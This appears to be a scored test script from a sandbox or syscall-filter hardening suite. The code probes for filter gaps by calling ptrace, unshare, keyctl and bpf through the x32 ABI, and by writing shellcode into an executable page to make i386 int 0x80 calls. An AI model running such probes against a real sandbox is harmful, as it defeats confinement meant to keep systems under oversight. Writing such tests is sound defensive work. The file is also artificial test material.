# ruff: noqa
# Threat: Reaching out. System calls by the 32-bit and the x32 door, which a filter may forget.
# Outcome: completed | process ended
# Marks: 8

# %% before double
import ctypes, mmap, platform
libc = ctypes.CDLL(None, use_errno=True)
for number in (39, 101, 272, 250, 321):
    if libc.syscall(0x40000000 + number, 0x10000000, 0, 0, 0) >= 0: print("reached: x32", number)
if platform.machine() == "x86_64":
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    def door(number, argument):
        page.seek(0)
        page.write(b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + argument.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")
        return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    for number, argument in ((20, 0), (310, 0x10000000), (288, 0)):
        if door(number, argument) >= 0: print("reached: i386", number)
